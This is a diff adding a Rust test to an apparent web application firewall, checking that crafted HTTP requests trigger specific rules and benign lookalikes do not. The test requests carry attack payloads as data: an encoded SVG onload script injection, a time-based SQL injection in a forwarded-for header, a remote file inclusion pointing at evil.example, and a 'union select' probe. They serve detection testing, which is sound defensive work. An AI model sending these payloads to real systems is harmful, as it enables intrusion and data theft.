@@ -273,6 +273,30 @@ fn compressed_bodies_are_undone() {
 }
 
 #[test]
+fn attacks_are_found_in_paths_headers_and_names() {
+    let mut waf = waf();
+    for (request, id) in [
+        (format!("GET /a/%3Csvg%20onload=alert(1)%3E HTTP/1.1\r\n{HEADERS}\r\n"), 94101),
+        (format!("GET / HTTP/1.1\r\n{HEADERS}X-Forwarded-For: 1' and sleep(5)#\r\n\r\n"), 94203),
+        (format!("GET /?GALLERY_BASEDIR=http://evil.example/x/ HTTP/1.1\r\n{HEADERS}\r\n"), 93108),
+        (format!("GET /docs/union+select+1 HTTP/1.1\r\n{HEADERS}\r\n"), 94202),
+    ] {
+        let found = ids(&mut waf, request.as_bytes());
+        assert!(found.contains(&id), "{request}: {found:?}");
+    }
+    for request in [
+        format!("GET /docs/union-select-explained HTTP/1.1\r\n{HEADERS}\r\n"),
+        format!(
+            "GET /?path=http://www.example.com/x HTTP/1.1\r\n{HEADERS}X-Forwarded-For: 192.0.2.1, 10.0.0.1\r\n\r\n"
+        ),
+    ] {
+        assert_eq!(ids(&mut waf, request.as_bytes()), Vec::<u32>::new(), "{request}");
+    }
+    let body = post("application/grpc-web+proto", b"\0\0\0\0\x05\x0a\x03abc");
+    assert_eq!(ids(&mut waf, &body), Vec::<u32>::new());
+}
+
+#[test]
 fn levels_thresholds_and_exclusions_are_obeyed() {
     let text = "<b>bold</b>";
     assert_eq!(ids(&mut waf(), &get(text)), Vec::<u32>::new());
